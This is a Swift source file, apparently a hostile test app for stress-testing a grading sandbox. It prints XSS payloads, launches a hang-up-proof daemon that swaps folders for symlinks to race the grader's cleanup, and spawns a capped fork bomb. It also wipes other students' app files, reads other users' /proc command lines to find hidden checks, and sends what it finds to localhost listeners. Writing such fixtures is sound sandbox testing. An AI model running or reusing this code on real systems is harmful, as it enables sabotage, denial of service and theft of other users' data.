import Foundation
import Glibc

/// Everything a grader must survive, done at every launch: markup in what it prints, a flood of
/// output, hundreds of processes, writes outside its own folder, a daemon that outlives its
/// launch and swaps folders for links while the grader cleans up, and spying: other processes'
/// command lines, other students' containers, the checks, the network. Whatever it manages to
/// steal it prints after `STOLEN` and sends to every listener on 127.0.0.1: the tests look for both.
enum Mischief {
    static func makeTrouble() {
        print("<script>alert('owned')</script></pre><img src=x onerror=alert(1)> ]]> \u{1B}[31mred\u{1B}[0m")
        startDaemon()
        plantLinks()
        startManyProcesses()
        writeOutside()
        let stolen = spy()
        for line in stolen { print("STOLEN " + line) }
        sendToListeners(stolen.isEmpty ? ["STOLEN nothing, but the network is open"] : stolen)
        // A flood: two mebibytes of output, more than the grader keeps.
        let line = String(repeating: "flood ", count: 170)
        for _ in 0..<2_000 { print(line) }
    }

    /// Starts sleepers until the system says no (a fork bomb that stops): the grader's process
    /// limit must stop it, and killing the app must take them all down.
    static func startManyProcesses() {
        var started = 0
        for _ in 0..<2_000 {
            var pid: pid_t = 0
            let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/sleep"), strdup("60"), nil]
            defer { argv.forEach { free($0) } }
            guard posix_spawn(&pid, "/bin/sleep", nil, nil, argv, nil) == 0 else { break }
            started += 1
        }
        print(started < 2_000 ? "the system refused more processes" : "started 2000 processes")
    }

    /// Walks up from the app's own path and tries to leave a file in every folder on the way, and
    /// to change the files of the folder that holds it (other students' apps and containers).
    static func writeOutside() {
        for shared in ["/tmp", "/run/lock", "/dev/shm", "/var/tmp"] {
            try? Data("pwned".utf8).write(to: URL(fileURLWithPath: shared + "/HOSTILE-WAS-HERE"))
        }
        var folder = URL(fileURLWithPath: CommandLine.arguments[0]).deletingLastPathComponent()
        for _ in 0..<8 {
            folder = folder.deletingLastPathComponent()
            let planted = folder.appendingPathComponent("HOSTILE-WAS-HERE")
            // Silently: whether it worked shows in the grader's files, not in the grade.
            try? Data("pwned".utf8).write(to: planted)
            for name in (try? FileManager.default.contentsOfDirectory(atPath: folder.path)) ?? [] {
                let victim = folder.appendingPathComponent(name).appendingPathComponent("app")
                guard FileManager.default.fileExists(atPath: victim.path) else { continue }
                try? Data().write(to: victim)
            }
        }
    }

    /// Where the tests keep a canary, outside the workbook: the links the app leaves point there.
    static let canaryFolder = "/tmp/restoration-workbook-canary"

    /// A daemon: its own session (setsid), forked twice, deaf to hang-ups. It keeps swapping a
    /// folder of the container for a link to the canary's folder, so that a grader cleaning up
    /// while it runs would follow the link and delete the canary.
    static func startDaemon() {
        let script = """
            trap '' HUP TERM INT; C="$WORKBOOK_CONTAINER"
            while :; do
              mkdir -p "$C/swap/inner" && touch "$C/swap/inner/file"
              rm -rf "$C/swapped"; mv "$C/swap" "$C/swapped" 2>/dev/null
              ln -sfn \(canaryFolder) "$C/swap"; sleep 0.05; rm -f "$C/swap"
            done
            """
        run("/usr/bin/setsid", ["-f", "/bin/sh", "-c", script, "hostile-daemon"])
    }

    /// Links in the container to the canary's folder, where a grader removing the container
    /// would follow them.
    static func plantLinks() {
        guard let container = ProcessInfo.processInfo.environment["WORKBOOK_CONTAINER"] else { return }
        let manager = FileManager.default
        try? manager.createDirectory(atPath: container + "/Documents/deeper", withIntermediateDirectories: true)
        for link in ["/canary-link", "/Documents/canary-link", "/Documents/deeper/canary-link"] {
            try? manager.createSymbolicLink(atPath: container + link, withDestinationPath: canaryFolder)
        }
    }

    /// What the app can find that is not its own: other users' processes (the grader's command
    /// line, other students' apps), their folders and containers, the checks and the workbook.
    static func spy() -> [String] {
        var stolen: [String] = []
        let me = getuid()
        var paths: [String] = []
        for name in (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? [] {
            guard Int32(name) != nil, let owner = owner(ofProcess: name), owner != me,
                  let data = FileManager.default.contents(atPath: "/proc/\(name)/cmdline"), !data.isEmpty else { continue }
            let arguments = data.split(separator: 0).map { String(decoding: $0, as: UTF8.self) }
            stolen.append("command line of process \(name): " + arguments.joined(separator: " ").prefix(300))
            paths += arguments.filter { $0.hasPrefix("/") }
            if let checks = arguments.firstIndex(of: "--checks"), checks + 1 < arguments.count { paths.append(arguments[checks + 1]) }
        }
        let mine = URL(fileURLWithPath: CommandLine.arguments[0]).deletingLastPathComponent().path
        for path in Set(paths) where !path.hasPrefix(mine) {
            // Another student's app: its folder, its containers. The grader: the workbook above it.
            var folder = URL(fileURLWithPath: path)
            for _ in 0..<6 {
                folder.deleteLastPathComponent()
                guard let names = try? FileManager.default.contentsOfDirectory(atPath: folder.path) else { continue }
                if names.contains("Package.swift") {
                    stolen.append("the workbook's sources at \(folder.path): \(names.sorted().prefix(12).joined(separator: ", "))")
                    for hidden in ["Tests/Fixtures/HiddenChecks", "Chapters"] {
                        let found = (try? FileManager.default.contentsOfDirectory(atPath: folder.path + "/" + hidden)) ?? []
                        if !found.isEmpty { stolen.append("\(hidden): \(found.sorted().joined(separator: ", "))") }
                    }
                    break
                }
                if names.contains(where: { $0.hasPrefix("container-") }) {
                    stolen.append("another student's folder \(folder.path): \(names.sorted().joined(separator: ", "))")
                    break
                }
            }
            if path.hasSuffix(".scenario") || FileManager.default.fileExists(atPath: path + "/secret-two-kills.scenario") {
                stolen.append("the checks at \(path)")
            }
        }
        return stolen
    }

    static func owner(ofProcess pid: String) -> uid_t? {
        guard let data = FileManager.default.contents(atPath: "/proc/\(pid)/status") else { return nil }
        let line = String(decoding: data, as: UTF8.self).split(separator: "\n").first { $0.hasPrefix("Uid:") }
        return line?.split(whereSeparator: { $0 == "\t" || $0 == " " }).dropFirst().first.flatMap { uid_t($0) }
    }

    /// Sends what it stole to every TCP listener on 127.0.0.1 that /proc/net/tcp shows.
    static func sendToListeners(_ lines: [String]) {
        guard let table = try? String(contentsOfFile: "/proc/net/tcp", encoding: .utf8) else { return }
        for row in table.split(separator: "\n").dropFirst() {
            let fields = row.split(separator: " ")
            guard fields.count > 3, fields[3] == "0A", fields[1].hasPrefix("0100007F:"),
                  let port = UInt16(fields[1].dropFirst(9), radix: 16) else { continue }
            let socket = Glibc.socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
            guard socket >= 0 else { continue }
            defer { close(socket) }
            var address = sockaddr_in()
            address.sin_family = sa_family_t(AF_INET)
            address.sin_port = port.bigEndian
            address.sin_addr.s_addr = UInt32(0x7F00_0001).bigEndian
            let connected = withUnsafePointer(to: &address) {
                $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(socket, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) }
            }
            guard connected == 0 else { continue }
            let message = lines.joined(separator: "\n") + "\n"
            _ = message.withCString { send(socket, $0, strlen($0), 0) }
        }
    }

    @discardableResult
    static func run(_ executable: String, _ arguments: [String]) -> Bool {
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = ([executable] + arguments).map { strdup($0) } + [nil]
        defer { argv.forEach { free($0) } }
        guard posix_spawn(&pid, executable, nil, nil, argv, environ) == 0 else { return false }
        var status: Int32 = 0
        waitpid(pid, &status, 0)
        return true
    }
}
